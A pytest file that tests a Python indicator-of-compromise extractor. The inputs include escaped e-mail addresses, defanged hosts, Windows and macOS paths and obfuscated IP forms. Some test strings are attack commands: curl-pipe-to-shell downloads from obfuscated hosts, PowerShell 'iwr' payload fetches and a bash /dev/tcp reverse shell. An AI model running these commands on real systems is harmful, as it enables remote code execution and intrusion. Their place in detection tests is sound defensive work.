"""Escaped local parts, unknown URL schemes, one-sided spaced ``@``, bundle paths.

Cases of our own for classes that other projects' suites and real command lines showed:
an e-mail whose local part is written with the escapes of its ``%40`` (``mailto%3A``), the
host of a scheme we do not list (``zoommtg://``), ``myuser @example[.]com``, and macOS
bundles and Chrome profile files whose names hold spaces.
"""

from __future__ import annotations

import pytest

from asisdk.ioc import IocExtractor, IocMatch, refang


def _found(text: str, ioc_type: str) -> set[str]:
    return IocExtractor().extract(text, types=[ioc_type])[ioc_type]


def _matches(text: str, ioc_type: str) -> list[IocMatch]:
    return [m for m in IocExtractor().finditer(text) if m.type == ioc_type]


# ------------------------------------------------------------------ escaped local parts
@pytest.mark.parametrize(
    ("text", "emails"),
    [
        # the escape before the local part is a separator, decoded and cut at
        ("href=mailto%3Aadmin%40evil-corp.com", {"admin@evil-corp.com"}),
        ("href=mailto%3Aadmin@evil-corp.com", {"admin@evil-corp.com"}),
        ("to=%20bob@phish-mail.net", {"bob@phish-mail.net"}),
        ("q=a%2Cjane%40phish-mail.net", {"jane@phish-mail.net"}),
        # double-encoded: ``%253A`` is ``%3A`` is ``:``
        ("u=mailto%253Ajohn%2540phish-mail.net", {"john@phish-mail.net"}),
        # an escape of a character a local part holds is decoded into it
        ("rcpt=bob%2Balerts@phish-mail.net", {"bob+alerts@phish-mail.net"}),
        # quoted-printable: ``=3D`` is ``=``, the address starts after it
        ("To: x=3Dbob=40phish-mail.net", {"bob@phish-mail.net"}),
        # plain addresses are untouched
        (
            "john.doe@phish-mail.net and ops%40phish-mail.net",
            {"john.doe@phish-mail.net", "ops@phish-mail.net"},
        ),
    ],
)
def test_escapes_in_an_email_local_part_are_decoded_or_cut(text: str, emails: set[str]) -> None:
    assert _found(text, "email") == emails


def test_escaped_local_part_keeps_its_written_span() -> None:
    text = "link: mailto%3Aadmin%40evil-corp.com end"
    (match,) = [m for m in IocExtractor().finditer(text) if m.type == "email"]
    assert match.value == "admin@evil-corp.com"
    assert match.raw == "admin%40evil-corp.com"
    assert text[match.start : match.end] == match.raw


def test_a_bare_percent_before_the_at_is_no_local_part() -> None:
    assert _found("100%@evil-corp.com", "email") == set()
    assert _found("100%@evil-corp.com", "dns") == {"evil-corp.com"}


# ------------------------------------------------------------------ unknown schemes
@pytest.mark.parametrize(
    ("text", "ioc_type", "values"),
    [
        (
            '"Zoom.exe" "--url=zoommtg://us04web.zoom.us/join?action=join"',
            "dns",
            {"us04web.zoom.us"},
        ),
        ("open foo://c2.evil-corp.com:8080/x", "dns", {"c2.evil-corp.com"}),
        ("beacon xyz://203.0.113.7:443/a", "ipv4", {"203.0.113.7"}),
        # ``[://]`` after a scheme we do not know still leaves the host
        ("x[://]stage.evil-corp.com", "dns", {"stage.evil-corp.com"}),
        ("d[:]//stage.evil-corp.com", "dns", {"stage.evil-corp.com"}),
    ],
)
def test_host_of_an_unknown_scheme_is_reported(text: str, ioc_type: str, values: set[str]) -> None:
    assert _found(text, ioc_type) == values
    assert _found(text, "url") == set()  # it is no URL of a scheme we know


@pytest.mark.parametrize(
    "text",
    [
        "android-app://com.example.mobile/path",  # a package name, not a host
        "ms-appx://Microsoft.Windows.Photos/x",  # a namespace
        "res://ieframe.dll/acr_error.htm",  # a file name
        "chrome-extension://abcdefghijklmnop/popup.html",
    ],
)
def test_unknown_scheme_hosts_that_are_no_domains_stay_out(text: str) -> None:
    assert _found(text, "dns") == set()


def test_unknown_scheme_host_is_yielded_once_in_text_order() -> None:
    text = "a foo://user@evil-corp.com/ b zoommtg://us04web.zoom.us/j"
    found = [(m.type, m.value) for m in IocExtractor().finditer(text)]
    assert found == [
        ("email", "user@evil-corp.com"),
        ("dns", "evil-corp.com"),
        ("dns", "us04web.zoom.us"),
    ]


# ------------------------------------------------------------------ refanging
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("mail myuser @example[.]com now", "mail myuser@example.com now"),
        ("mail myuser@ example[.]com now", "mail myuser@example.com now"),
        ("mail myuser@  example(.)org now", "mail myuser@example.org now"),
        ("mail myuser@example  [  .  ]   com now", "mail myuser@example.com now"),
        ("hxxp://example.com[/test", "http://example.com/test"),
        ("https://example\\(.\\)com/test\\.html", "https://example.com/test.html"),
        # an odd closing bracket after the dot, as an odd opening one before it
        ("hxxp://example.]com/test", "http://example.com/test"),
        ("beacon to www[.evil-cdn.]org", "beacon to www.evil-cdn.org"),
        # before the last octet of an address whose first three come before it
        ("c2 192.168.1[.77 and 10.0.0.]5", "c2 192.168.1.77 and 10.0.0.5"),
        ("111[.111.]111[.111", "111.111.111.111"),
    ],
)
def test_spaced_and_odd_markers(text: str, expected: str) -> None:
    assert refang(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "thanks @github.com for the fix",  # a mention: the name after it is not defanged
        "x@ evil.com",
        "see [/path] and arr[/re/]",
        "http://a.com [/x",
        "C:\\a\\(b)\\.x",
        "see [the docs.](http://x.org) and arr[i.]x, list[0.]5",
        "1.2[.3 and arr[0][.1 and a[.1",  # no three octets before the last
        "ends with a.] or x.] y",
    ],
)
def test_text_that_is_not_defanged_is_left_alone(text: str) -> None:
    assert refang(text) == text


# ------------------------------------------------------------------ names with spaces
@pytest.mark.parametrize(
    ("text", "path"),
    [
        (
            "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome --headless",
            "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome",
        ),
        (
            "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word",
            "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word",
        ),
        (
            "/Library/Application Support/Microsoft/MAU2.0/Microsoft AutoUpdate.app",
            "/Library/Application Support/Microsoft/MAU2.0/Microsoft AutoUpdate.app",
        ),
        ("ran /Volumes/Macintosh HD/Users/bob/x.sh", "/Volumes/Macintosh HD/Users/bob/x.sh"),
    ],
)
def test_macos_bundles_and_volumes_with_spaces(text: str, path: str) -> None:
    assert _found(text, "linux_path") == {path}
    assert _found(text, "dns") == set()  # ``autoupdate.app`` is a bundle, not a domain


@pytest.mark.parametrize(
    ("text", "path"),
    [
        # prose after a path is not part of it
        ("copied /tmp/x.sh Then ran it", "/tmp/x.sh"),
        ("see /usr/bin then Foo.app", "/usr/bin"),
    ],
)
def test_words_after_a_unix_path_stay_prose(text: str, path: str) -> None:
    assert _found(text, "linux_path") == {path}


@pytest.mark.parametrize(
    ("text", "ioc_type", "value"),
    [
        (
            "--user-data-dir=C:\\Users\\bob\\AppData\\Local\\Microsoft\\Edge\\User Data /x:7",
            "windows_path",
            "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Edge\\User Data",
        ),
        (
            "stole C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
            "windows_path",
            "C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
        ),
        (
            "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection",
            "registry_key",
            "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection",
        ),
    ],
)
def test_well_known_spaced_names_at_the_end(text: str, ioc_type: str, value: str) -> None:
    assert _found(text, ioc_type) == {value}


# ------------------------------------------------------------------ user at an address
@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("ssh root@192.0.2.15 -p 2222", "192.0.2.15"),
        ("scp loot.tgz ops@198.51.100.7:/tmp/", "198.51.100.7"),
        ("ssh admin@010.001.002.003", "10.1.2.3"),
    ],
)
def test_user_at_an_ipv4_gives_the_address_and_no_email(text: str, address: str) -> None:
    found = IocExtractor().extract(text, types=["ipv4", "email"])
    assert found == {"ipv4": {address}, "email": set()}


# ------------------------------------------------------------------ a stray leading dash
@pytest.mark.parametrize(
    ("text", "ioc_type", "values"),
    [
        ("-stage.evil-corp.com", "dns", {"stage.evil-corp.com"}),
        (
            "hosts:\n-cdn.evil-corp.com\n-api.evil-corp.com",
            "dns",
            {"cdn.evil-corp.com", "api.evil-corp.com"},
        ),
        ("-_ldap._tcp.evil-corp.com", "dns", {"_ldap._tcp.evil-corp.com"}),
        ("range -203.0.113.9", "ipv4", {"203.0.113.9"}),
        # switches stay switches: a capital or a second dash after the first
        ("java -Duser.home=/srv -Dlog.level=debug -jar a.jar", "dns", set()),
        ("tool --log.level info", "dns", set()),
        # inside a word the dash is part of the name
        ("x a-evil.com", "dns", {"a-evil.com"}),
    ],
)
def test_a_leading_dash_is_no_part_of_a_name(text: str, ioc_type: str, values: set[str]) -> None:
    assert _found(text, ioc_type) == values


# ------------------------------------------------------------------ more escapes of ``@``
@pytest.mark.parametrize(
    "text",
    [
        "mailto:ops&#64;evil-corp.com",
        "mailto:ops&#x40;evil-corp.com",
        "ops&commat;evil-corp.com",
        '"reply": "ops\\u0040evil-corp.com"',
    ],
)
def test_html_and_json_escaped_at(text: str) -> None:
    found = IocExtractor().extract(text, types=["email", "dns"])
    assert found == {"email": {"ops@evil-corp.com"}, "dns": {"evil-corp.com"}}


# ------------------------------------------------------------------ glued URL lists
@pytest.mark.parametrize(
    ("text", "urls"),
    [
        ("http://evil.com,http://bad.org", {"http://evil.com", "http://bad.org"}),
        (
            "mirrors=https://a.evil.com/x;https://b.evil.com/y",
            {"https://a.evil.com/x", "https://b.evil.com/y"},
        ),
        (
            "http://evil.com/x,https://bad.org/y,ftp://files.c.net/z",
            {"http://evil.com/x", "https://bad.org/y", "ftp://files.c.net/z"},
        ),
        # a comma inside a URL that no scheme follows stays in it
        ("http://evil.com/a,b?c=1,2", {"http://evil.com/a,b?c=1,2"}),
    ],
)
def test_urls_glued_with_commas_or_semicolons_are_split(text: str, urls: set[str]) -> None:
    assert _found(text, "url") == urls


# ------------------------------------------------------------------ regedit's address bar
def test_regedit_address_bar_prefix_is_not_part_of_the_key() -> None:
    text = "Computer\\HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
    assert _found(text, "registry_key") == {
        "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
    }
    # other text before a backslash still starts no key (``C:\x\HKLM\y`` is a path)
    assert _found("C:\\x\\HKLM\\y", "registry_key") == set()


def test_location_is_a_code_receiver() -> None:
    assert _found("var h = location.host + location.hostname;", "dns") == set()
    assert _found("beacon to evil.host", "dns") == {"evil.host"}


# ------------------------------------------------------------------ device prefixes
@pytest.mark.parametrize(
    ("text", "path"),
    [
        # as Sysmon and Security events record conhost's command line
        (
            "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
            "C:\\Windows\\system32\\conhost.exe",
        ),
        (
            "\\\\?\\C:\\Users\\bob\\AppData\\Local\\Temp\\a.exe",
            "C:\\Users\\bob\\AppData\\Local\\Temp\\a.exe",
        ),
        # the Win32 device namespace: a drive, not a UNC host named ``.``
        ("\\\\.\\C:\\Windows\\x.exe", "C:\\Windows\\x.exe"),
        # devices and pipes in that namespace stay whole
        ("\\\\.\\pipe\\msagent_12", "\\\\.\\pipe\\msagent_12"),
        ("\\\\.\\PhysicalDrive0", "\\\\.\\PhysicalDrive0"),
    ],
)
def test_drive_path_after_a_device_prefix(text: str, path: str) -> None:
    assert _found(text, "windows_path") == {path}


def test_drive_after_other_backslash_text_is_no_path() -> None:
    assert _found("a\\C:\\x x\\?\\C:\\y", "windows_path") == set()


# ------------------------------------------------------------------ numeric hosts
@pytest.mark.parametrize(
    ("text", "address", "raw"),
    [
        ("visit http://2130706433/admin now", "127.0.0.1", "2130706433"),
        ("http://0x7f000001/x", "127.0.0.1", "0x7f000001"),
        ("https://0XC0A80101/login", "192.168.1.1", "0XC0A80101"),
        ("http://0xC0.0xA8.0x01.0x01/login", "192.168.1.1", "0xC0.0xA8.0x01.0x01"),
        ("http://user@0x7f.1:8080/a", "127.0.0.1", "0x7f.1"),
        ("ftp://0x7f.0x00.0x00.0x01./x", "127.0.0.1", "0x7f.0x00.0x00.0x01."),
        # octal parts where four decimal octets cannot be read
        ("http://0300.0250.1.1/", "192.168.1.1", "0300.0250.1.1"),
        ("curl -s http://3232235777:8080/a.sh | sh", "192.168.1.1", "3232235777"),
        # the forms of SigmaHQ's "Obfuscated IP Download Activity" rule, all 81.4.124.10
        ("iwr http://0121.04.0174.012/a.ps1", "81.4.124.10", "0121.04.0174.012"),
        ("iwr http://81.4.31754/a.ps1", "81.4.124.10", "81.4.31754"),
        ("curl http://81.293898/x", "81.4.124.10", "81.293898"),
        ("wget http://012101076012/p", "81.4.124.10", "012101076012"),
        ("wget http://1359248394/p", "81.4.124.10", "1359248394"),
        # percent-encoded, as browsers decode a host before they connect
        (
            "iwr http://%38%31%2e%34%2e%31%32%34%2e%31%30/a.ps1",
            "81.4.124.10",
            "%38%31%2e%34%2e%31%32%34%2e%31%30",
        ),
        # the other hosts an address is read from
        (r"net use \\2130706433\c$", "127.0.0.1", "2130706433"),
        ("bash -i >& /dev/tcp/3232235777/4444 0>&1", "192.168.1.1", "3232235777"),
    ],
)
def test_a_host_written_in_other_numbers_gives_its_address(
    text: str, address: str, raw: str
) -> None:
    found = _matches(text, "ipv4")
    assert [(m.value, m.raw) for m in found] == [(address, raw)]
    assert text[found[0].start : found[0].end] == raw


@pytest.mark.parametrize(
    "text",
    [
        "http://1/",  # 0.0.0.1: 0.0.0.0/8 is no destination
        "http://0x/",
        "http://99999999999/",  # past 2**32
        "http://0x7g000001/",  # not hexadecimal: a name (with no TLD)
        "http://0x100.1.1.1/",  # a leading part over 255
        "http://0300.0250.1.1111/",
        "build 0x7f000001 and 2130706433 in prose",
    ],
)
def test_numbers_that_are_no_address_give_none(text: str) -> None:
    assert _found(text, "ipv4") == set()


@pytest.mark.parametrize(
    ("text", "address", "raw"),
    [
        # SigmaHQ's "Obfuscated IP Via CLI": ping and friends read hexadecimal with inet_aton
        ("ping 0x7f000001", "127.0.0.1", "0x7f000001"),
        ("PING.EXE -n 2 0x51.0x04.0x7c.0x0a", "81.4.124.10", "0x51.0x04.0x7c.0x0a"),
        ("curl -s -o a.ps1 0xC0.0xA8.1.1", "192.168.1.1", "0xC0.0xA8.1.1"),
        ("Test-NetConnection 0x7f.1 -Port 445", "127.0.0.1", "0x7f.1"),
    ],
)
def test_a_hexadecimal_address_given_to_a_network_tool(text: str, address: str, raw: str) -> None:
    found = _matches(text, "ipv4")
    assert [(m.value, m.raw) for m in found] == [(address, raw)]


@pytest.mark.parametrize(
    "text",
    [
        "mov eax, 0x7f000001",  # a constant
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",  # a handle
        "ping 0x400",  # 0.0.4.0: no destination
        "ping 0x7g000001",
    ],
)
def test_hexadecimal_numbers_elsewhere_are_no_address(text: str) -> None:
    assert _found(text, "ipv4") == set()
    assert _found("ping 0x7f.example.com", "dns") == {"0x7f.example.com"}


def test_a_percent_encoded_host_name_gives_the_name() -> None:
    text = "curl http://%65%76%69%6c-cdn.com/x.sh | sh"
    found = _matches(text, "dns")
    assert [(m.value, m.raw) for m in found] == [("evil-cdn.com", "%65%76%69%6c-cdn.com")]
    assert _found(text, "url") == {"http://%65%76%69%6c-cdn.com/x.sh"}
    # escapes of anything but a host name are no host
    for text in (
        "http://ev%ZZil.com/",
        "http://a%2fb.com/",
        "http://%25%32%35/",
        "http://%ff.com/",
    ):
        assert _found(text, "url") == set(), text


def test_short_decimal_hosts_and_decimal_octets_keep_their_reading() -> None:
    assert _found("http://172.16.5/", "url") == set()  # a version or a typo
    assert _found("http://010.001.002.003/", "ipv4") == {"10.1.2.3"}  # decimal, as before
    assert _found("http://08.1.1.1/", "ipv4") == {"8.1.1.1"}


# ------------------------------------------------------------------ forward-slash drives
@pytest.mark.parametrize(
    ("text", "path"),
    [
        # as SigmaHQ's rules for PowerShell "invoked with inverted slashes" show it
        (
            "HostApplication=C:/Windows/System32/WindowsPowerShell/v1.0/powershell -nop",
            "C:/Windows/System32/WindowsPowerShell/v1.0/powershell",
        ),
        (
            "curl.exe --silent --output C:/Users/test/AppData/Local/Temp/gfw-httpget-jVOEoxbS.txt",
            "C:/Users/test/AppData/Local/Temp/gfw-httpget-jVOEoxbS.txt",
        ),
        ("open('C:/Users/bob/Desktop/secret.docx')", "C:/Users/bob/Desktop/secret.docx"),
        ("jdbc:sqlite:C:/db/x.db", "C:/db/x.db"),
        # spaced well-known names and folder words, as with backslashes
        (
            "python C:/Program Files/Python311/python.exe x.py",
            "C:/Program Files/Python311/python.exe",
        ),
        ("D:/Flash Player/bin/x.exe -s", "D:/Flash Player/bin/x.exe"),
        (
            '"C:/Program Files (x86)/Google/Chrome/Application/chrome.exe" --flag',
            "C:/Program Files (x86)/Google/Chrome/Application/chrome.exe",
        ),
        # JSON's escaped quote after a quoted folder is not part of it (a real MDE event)
        (
            '/portable \\"C:/Users/SwachchhandaP/Downloads/\\" /lng en_us',
            "C:/Users/SwachchhandaP/Downloads/",
        ),
    ],
)
def test_drive_path_with_forward_slashes(text: str, path: str) -> None:
    assert _found(text, "windows_path") == {path}
    assert _found(text, "linux_path") == set()


@pytest.mark.parametrize(
    "text",
    [
        "C:/",
        "file:///C:/Users/bob/x.html",  # a file URL, reported as one
        "http://a.com/C:/x/y",
        "/mnt/C:/x/y",
        "c://evil.com/x",  # an unknown scheme, not a drive
        "Note:/path/x",
    ],
)
def test_forward_slash_drive_inside_other_text_is_no_path(text: str) -> None:
    assert _found(text, "windows_path") == set()


# ------------------------------------------------------------------ nested glued URLs
def test_a_web_url_glued_to_a_letter_inside_another_url_is_found() -> None:
    text = "https://mail.example.com/r?sig=x2Pa2oOYxanG52s4--~Chttp://drop.evil-files.org/a.zip"
    assert _found(text, "url") == {text, "http://drop.evil-files.org/a.zip"}
    assert _found(text, "dns") == {"mail.example.com", "drop.evil-files.org"}
    # outside a URL, a glued scheme is no web URL: only its host is a name
    assert _found("see xhttp://evil-files.org/y", "url") == set()
